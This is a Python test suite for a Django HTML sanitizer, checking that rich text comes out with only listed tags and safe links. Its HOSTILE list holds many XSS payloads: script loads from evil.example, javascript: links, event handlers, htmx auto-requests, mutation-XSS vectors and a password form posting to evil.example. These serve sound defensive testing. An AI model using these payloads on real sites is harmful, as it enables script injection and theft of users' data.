"""Formatted text carries no behaviour: what comes out is parsed and compared with the list of what may."""

import re
import time
from html.parser import HTMLParser

import pytest
from django.core.exceptions import ValidationError
from django.template import Context, Template
from hypothesis import given, settings
from hypothesis import strategies as st

from foundation.richtext import LONGEST, TAGS, TextTooLong, as_safe, as_text, clean
from foundation.variables import fill, for_html

# OWASP's filter-evasion cheat sheet, mutation XSS by namespaces, and what htmx would act on.
HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<SCRIPT/XSS SRC='https://evil.example/x.js'></SCRIPT>",
    "<<SCRIPT>alert(1);//\\<</SCRIPT>",
    "<SCRIPT SRC=//evil.example/.j>",
    '<IMG SRC="javascript:alert(1);">',
    "<IMG SRC=JaVaScRiPt:alert(1)>",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>"\\>',
    "<IMG SRC=# onmouseover=alert(1)>",
    "<IMG SRC=/ onerror=alert(1)></img>",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
    '<IMG SRC=" &#14; javascript:alert(1);">',
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)>",
    "<iframe src=https://evil.example/x.html <",
    "</TITLE><SCRIPT>alert(1);</SCRIPT>",
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(1);">',
    "<STYLE>li {list-style-image: url('javascript:alert(1)');}</STYLE><UL><LI>x</br>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    '<LINK REL="stylesheet" HREF="https://evil.example/x.css">',
    "<META HTTP-EQUIV=refresh CONTENT='0;url=javascript:alert(1);'>",
    "<TABLE BACKGROUND='javascript:alert(1)'><TD>x",
    "<DIV STYLE='background-image: url(javascript:alert(1))'>x</DIV>",
    "<DIV STYLE='width: expression(alert(1));'>x</DIV>",
    "<BASE HREF='javascript:alert(1);//'>",
    "<OBJECT TYPE=text/x-scriptlet DATA=https://evil.example/x.html></OBJECT>",
    "<EMBED SRC='data:image/svg+xml;base64,PHN2Zz4=' AllowScriptAccess=always></EMBED>",
    "<!--[if gte IE 4]><SCRIPT>alert(1);</SCRIPT><![endif]-->",
    "<? echo('x'); ?><p>x</p>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jav\tascript:alert(1)">x</a>',
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '<a href=" \x01javascript:alert(1)">x</a>',
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='DATA:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='\\\\evil.example'>x</a>",
    "<a href='/\\evil.example'>x</a>",
    "<a href='https:evil.example'>x</a>",
    "<a href='https:///evil.example'>x</a>",
    "<a href='https://good.example@evil.example/'>x</a>",
    "<a href='feed:javascript:alert(1)'>x</a>",
    "<a href='view-source:https://x.example'>x</a>",
    "<a href='/acme/console/'>x</a>",
    "<a href='?delete=1'>x</a>",
    "<a href='https://x.example' onclick=alert(1) target=_blank rel=opener ping=https://evil.example download>x</a>",
    "<p onclick='alert(1)' id='x' class='y' style='color:red' title='z' dir=rtl lang=en tabindex=1 autofocus>x</p>",
    "<p hx-post='/redeem' hx-trigger='load'>x</p>",
    "<p data-hx-post='/redeem' data-hx-trigger='load'>x</p>",
    "<p hx-on:click='alert(1)' hx-on::load='alert(1)' hx-on='click: alert(1)'>x</p>",
    "<p data-x='1' aria-label='x' is='y' slot='z' part='w' nonce='n'>x</p>",
    "<a href='https://x.example' hx-get='/x' hx-boost='true' hx-vals='js:{a:alert(1)}'>x</a>",
    "<form action=https://evil.example><input name=password><button formaction=javascript:alert(1)>x</form>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<template><p hx-get=/x>x</p><script>alert(1)</script></template>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<p><table><tr><td><p>x</p></td></tr></table></p>",
    "<a href='https://a.example'><a href='https://b.example'>x</a></a>",
    "<pre>\n\n\n\n\n\n\n\nx</pre>",
    "<p>unclosed <strong>and <em>wrongly</strong> nested</em>",
    "<x-custom onclick=1>x</x-custom><p\x00 onclick=1>y</p>",
    "<p>\x00\ufffe</p>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<a href='mailto:a@b.example?bcc=c@d.example'>x</a>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details><marquee onstart=alert(1)>x</marquee>",
    "<p>" + "<b>" * 500 + "x",
]


class Anatomy(HTMLParser):
    """Every tag and attribute of a text, as a parser that knows nothing of the cleaner sees them."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str, str]] = []
        self.others: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]

    def handle_comment(self, data: str) -> None:
        self.others.append(data)

    def handle_decl(self, decl: str) -> None:
        self.others.append(decl)

    def handle_pi(self, data: str) -> None:
        self.others.append(data)


def assert_harmless(html: str) -> None:
    anatomy = Anatomy(html)
    assert anatomy.tags <= TAGS
    assert not anatomy.others
    for tag, name, value in anatomy.attributes:
        assert (tag, name) in {("a", "href"), ("a", "rel")}
        if name == "rel":
            assert value == "noopener noreferrer"
        else:
            assert re.match(r"https?://[^/\\]|mailto:[^/\\]|\{\{", value, re.IGNORECASE), value


@pytest.mark.parametrize("html", HOSTILE)
def test_nothing_but_the_listed_tags_and_safe_links_comes_through(html: str) -> None:
    assert_harmless(clean(html))
    assert_harmless(str(as_safe(html)))


@pytest.mark.parametrize("html", HOSTILE)
def test_cleaning_a_hostile_text_again_changes_nothing(html: str) -> None:
    assert clean(clean(html)) == clean(html)
    assert str(as_safe(clean(html))) == clean(html)


@pytest.mark.parametrize("html", HOSTILE)
def test_the_plain_text_of_a_hostile_text_has_no_markup(html: str) -> None:
    assert "onerror" not in as_text(html)
    assert "<p" not in as_text(html)


pieces = st.sampled_from([
    "<p>", "</p>", "<a href='https://x.example'>", "</a>", "<ul>", "<li>", "</ul>", "<pre>", "</pre>", "\n", "<table>",
    "<td>", "<b>", "</b>", "<svg>", "<style>", "</style>", "<!--", "-->", "&lt;", "<", "'", '"', "x", "<h2>", "<br>",
    "<a hx-get=/x href=javascript:1>", "<template>", "<math>", "<form>", "<select>", "<hr>", "<code>",
    "</blockquote>", "<blockquote>", "<ol>", "</li>", "<em>", "</em>", "<strong>", "<title>",
    "\x00", "&#0;", "&nbsp;", "{{ x }}",
])  # fmt: skip


@settings(max_examples=400)
@given(st.lists(pieces, max_size=25).map("".join))
def test_any_mixture_comes_out_harmless_and_settled(html: str) -> None:
    cleaned = clean(html)
    assert_harmless(cleaned)
    assert clean(cleaned) == cleaned
    assert not re.search(r"<(p|script|table)\b", as_text("x".join(re.findall("<[a-z/][^<>]*>", html))))


def test_what_an_editor_writes_is_kept() -> None:
    html = (
        "<h2>Title</h2><p>One <strong>two</strong> <em>three</em> <u>four</u> <s>five</s><br>six</p>"
        "<ul><li><p>a</p></li></ul><ol><li>b</li></ol><blockquote><p>c</p></blockquote><hr>"
        "<pre><code>d\n  e</code></pre><h3>f</h3>"
        '<p><a href="https://x.example/?a=1&amp;b=2" rel="noopener noreferrer">g</a></p>'
    )
    assert clean(html) == html


def test_every_link_is_cut_loose_from_this_page() -> None:
    html = '<a href="https://x.example" target="_blank" rel="opener">x</a><a href="mailto:a@b.example">y</a>'
    assert clean(html) == (
        '<a href="https://x.example" rel="noopener noreferrer">x</a>'
        '<a href="mailto:a@b.example" rel="noopener noreferrer">y</a>'
    )


def test_a_link_may_be_a_variable_but_its_value_is_cleaned_after_filling() -> None:
    html = clean('<a href="{{ link }}">x</a> <a href="https://x.example/?n={{ name }}">y</a> <a href="{{ a.b }}">z</a>')
    assert 'href="{{ link }}"' in html
    assert 'href="https://x.example/?n={{ name }}"' in html
    assert "a.b" not in html
    for bad in ("javascript:alert(1)", '"><script>alert(1)</script>', "//evil.example", "x\nonclick=alert(1)"):
        assert_harmless(str(as_safe(fill(html, {"link": bad, "name": bad}, for_html))))
        assert "javascript:alert" not in as_safe(fill('<a href="{{ link }}">x</a>', {"link": bad}, for_html))
    good = as_safe(fill(html, {"link": "https://me.example/p/1?x=1&y=2"}, for_html))
    assert 'href="https://me.example/p/1?x=1&amp;y=2"' in good


def test_a_text_that_does_not_settle_is_shown_as_typed(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("foundation.richtext._PASSES", 1)
    nested = "<p><table><tr><td><p>x</p></td></tr></table></p>"
    assert clean("<p>settled</p>") == "<p>settled</p>"
    assert_harmless(clean(nested))
    assert clean(nested).startswith("&lt;p&gt;")


def test_as_safe_cleans_what_reached_the_database_another_way() -> None:
    rendered = Template("{{ text }}").render(Context({"text": as_safe("<p hx-get='/x'>a</p><script>1</script>")}))
    assert rendered == "<p>a</p>"


def test_a_text_that_is_too_long_is_refused_with_words() -> None:
    with pytest.raises(TextTooLong) as refusal:
        clean("x" * (LONGEST + 1))
    assert isinstance(refusal.value, ValidationError)
    assert refusal.value.messages == ["This text is too long; at most 100000 characters fit."]
    assert clean("x" * LONGEST)


def test_the_deepest_text_that_fits_is_cleaned_in_good_time() -> None:
    started = time.perf_counter()
    clean("<blockquote>" * (LONGEST // len("<blockquote>")))
    assert time.perf_counter() - started < 5


def test_the_plain_text_shows_links_lists_quotes_and_lines() -> None:
    html = """<h2>Hello  there</h2>
        <p>Read <a href="https://x.example/a">the   terms</a>, <a href="https://x.example">x.example</a>,
        <a href="mailto:a@b.example">a@b.example</a> or <a href="mailto:a@b.example">write</a>, <em>now</em>.<br>
        Second line &amp; &lt;more&gt;</p>
        <ul><li><p>one</p></li><li>two<ol><li>first</li><li>second<br>again</li></ol></li><li>three</li></ul>
        <blockquote><p>Quote</p></blockquote><hr><pre>  code\n    deeper</pre><p>End</p>"""
    assert as_text(html).split("\n") == [
        "Hello there",
        "",
        "Read the terms (https://x.example/a), x.example, a@b.example or write (a@b.example), now.",
        "Second line & <more>",
        "",
        "- one",
        "- two",
        "  1. first",
        "  2. second",
        "     again",
        "- three",
        "",
        "> Quote",
        "",
        "----",
        "",
        "  code",
        "    deeper",
        "",
        "End",
    ]


@pytest.mark.parametrize("html", ["", "   ", "<p></p>", "<ul><li></li></ul>", "<br>", "</li></ul></blockquote></a>"])
def test_an_empty_text_is_empty_as_plain_text(html: str) -> None:
    assert as_text(html) == ""
